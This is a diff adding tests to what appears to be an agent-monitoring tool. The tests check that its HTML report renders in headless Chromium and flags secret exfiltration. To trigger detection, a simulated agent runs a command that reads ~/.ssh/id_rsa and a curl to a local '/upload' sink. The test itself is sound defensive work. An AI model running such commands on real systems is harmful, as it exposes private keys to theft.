@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import os
+import shutil
 import socket
 import subprocess
 import sys
@@ -150,3 +151,38 @@ def test_writes_outside_the_working_tree(tmp_path: Path, sink: int) -> None:
     found = [e for e in events if e["type"] == "detection" and e["name"] == "write_outside_tree"]
     assert found and all(f"{outside}/planted" in e["reason"] for e in found)
     assert not [e for e in found if "inside.txt" in e["reason"]]
+
+
+def _chromium(*args: str) -> subprocess.CompletedProcess[str]:
+    """Headless Chromium as root in a test machine: no sandbox (it refuses to start as root with it)."""
+    browser = next((b for b in ("chromium", "chromium-browser", "google-chrome") if shutil.which(b)), None)
+    assert browser is not None, "a Chromium is needed to check the HTML report (setup.sh --dev installs it)"
+    return subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
+                           "--no-first-run", *args], capture_output=True, text=True, timeout=120, check=False)
+
+
+def test_html_report_opens_in_a_browser_and_tells_the_story(tmp_path: Path, sink: int) -> None:
+    read_cmd = "cat ~/.ssh/id_rsa > /dev/null"
+    send_cmd = f"curl -s -o /dev/null http://127.0.0.1:{sink}/upload"
+    events, db = run_agent(tmp_path, sink, [read_cmd, send_cmd])
+    session_id = events[0]["session_id"]
+    page = tmp_path / "report.html"
+    out = vigil(["report", str(session_id)[:10], "--html", str(page), "--db", str(db)])
+    assert out.returncode == 0, out.stderr
+    html = page.read_text()
+    assert "<script" not in html and "http://" not in html.split("<body>")[0]  # self-contained, nothing fetched
+
+    dom = _chromium("--dump-dom", page.as_uri())
+    assert dom.returncode == 0, dom.stderr[-2000:]
+    llm_calls = [e for e in events if e["type"] == "llm_call"]
+    tool_ids = [c["id"] for e in llm_calls for c in e["tool_calls"]]
+    assert f'<b id="llm-count">{len(llm_calls)}</b>' in dom.stdout
+    assert f'<b id="tool-count">{sum(1 for e in events if e["type"] == "tool_start")}</b>' in dom.stdout
+    for tool_id in tool_ids:
+        assert tool_id in dom.stdout
+    assert "cat ~/.ssh/id_rsa" in dom.stdout.replace("&gt;", ">") and "/upload" in dom.stdout
+    assert "ALERT secret_egress" in dom.stdout
+
+    shot = tmp_path / "report.png"
+    assert _chromium("--window-size=1200,900", f"--screenshot={shot}", page.as_uri()).returncode == 0
+    assert shot.stat().st_size > 10_000
